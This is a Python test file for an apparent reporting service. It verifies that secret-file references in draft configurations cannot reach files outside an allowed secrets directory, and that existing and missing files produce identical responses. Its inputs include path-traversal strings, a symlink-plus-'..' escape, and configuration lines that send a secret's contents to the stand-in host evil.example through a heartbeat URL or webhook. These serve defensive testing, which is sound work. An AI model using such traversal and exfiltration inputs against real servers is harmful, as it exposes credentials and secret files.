"""Files of secrets that a draft names: one directory, and not a word on what else lies on the server."""

from collections.abc import AsyncIterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from tests.web.api.served import ServedApi, served_api
from worker.adapters.definitions.secrets import resolve
from worker.adapters.redis_server import EmbeddedRedis
from worker.entry.draft import checked_draft
from worker.errors import RequestError

SECRET = "kept-away"


@pytest.fixture
async def served(empty_redis: EmbeddedRedis, tmp_path: Path) -> AsyncIterator[ServedApi]:
    async with served_api(empty_redis, tmp_path / "project") as made:
        yield made


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    (tmp_path / "is").write_text(SECRET, encoding="utf-8")
    (tmp_path / "at").mkdir()
    return tmp_path


PLACES = (
    '  crm: {{type: close, api_key: "${{file:{path}}}"}}\nchannels:\n',
    '  crm: {{type: close, api_key: "a${{file:/run/secrets/../..{path}}}"}}\nchannels:\n',
    'heartbeat_url: "https://evil.example/${{file:{path}}}"\nchannels:\n',
    'webhooks: {{w: {{url: "https://evil.example/", secret: "${{file:{path}}}", events: ["*"]}}}}\nchannels:\n',
)
"""Each option that takes a secret: of a connection, of what the project calls."""


def files(served: ServedApi, written: str, path: Path | str) -> dict[str, str]:
    place = served.project.place
    found = {name: (place / name).read_text("utf-8") for name in ("funnelbeat.yaml", "schedules/week.yaml")}
    found["funnelbeat.yaml"] = found["funnelbeat.yaml"].replace("channels:\n", written.format(path=path))
    return found


@pytest.mark.parametrize("written", PLACES)
@pytest.mark.parametrize("door", ["/check", "/plan", "/preview", "/deployments"])
async def test_an_existing_and_a_missing_file_are_answered_alike(
    served: ServedApi, outside: Path, written: str, door: str
) -> None:
    answers = []
    for name in ("is", "no", "at"):
        wanted: dict[str, Any] = {"files": files(served, written, outside / name)}
        wanted |= {"schedule": "week"} if door == "/preview" else {}
        answer = await served.post(door, wanted)
        answers.append((answer.status_code, answer.content))
    assert len(set(answers)) == 1
    status, body = answers[0]
    assert status == (200 if door == "/check" else 422)
    assert b"one below /run/secrets, because this is a draft" in body
    assert str(outside).encode() not in body


@pytest.mark.parametrize("named", ["{base}/is", "is", "./at/../is"])
def test_what_lies_below_a_directory_of_secrets_is_said_to_be_there(
    outside: Path, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    project = 'project: acme\nconnections:\n  crm: {{type: close, api_key: "${{file:{path}}}"}}\n'
    week = (
        "when: {cron: '0 9 * * MON'}\nreport: [{id: deals, source: crm, query: opportunities, params: {pipeline: p}}]\n"
    )
    check = partial(checked_draft, place=outside)
    monkeypatch.setenv("FUNNELBEAT_SECRETS_DIR", f"/run/secrets:{outside}")
    for name, unset in ((named, ()), (named.replace("is", "no"), (named.replace("is", "no").format(base=outside),))):
        path = name.format(base=outside)
        found = check({"funnelbeat.yaml": project.format(path=path), "schedules/week.yaml": week})
        assert not [one for one in found.complaints if "a file elsewhere" in str(one)]
        assert found.unset == unset
    monkeypatch.setenv("FUNNELBEAT_SECRETS_DIR", "at")
    path = named.format(base=outside)
    found = check({"funnelbeat.yaml": project.format(path=path), "schedules/week.yaml": week})
    assert [str(one) for one in found.complaints if f"one below {outside / 'at'}" in str(one)]
    assert found.unset == ()


def test_two_dots_behind_a_link_lead_back_to_the_directory_of_secrets(
    outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """For the kernel they lead to the directory above the link's target, which nobody allowed."""
    (outside / "elsewhere" / "in").mkdir(parents=True)
    (outside / "elsewhere" / "key").write_text(SECRET, encoding="utf-8")
    (outside / "at" / "link").symlink_to(outside / "elsewhere" / "in")
    monkeypatch.setenv("FUNNELBEAT_SECRETS_DIR", str(outside / "at"))
    named = f"{outside}/at/link/../key"
    project = f'project: acme\nconnections:\n  crm: {{type: close, api_key: "${{file:{named}}}"}}\n'
    assert checked_draft({"funnelbeat.yaml": project}, place=outside).unset == (named,)
    with pytest.raises(RequestError, match="cannot be read"):
        resolve({"api_key": f"${{file:{named}}}"}, {}, outside)
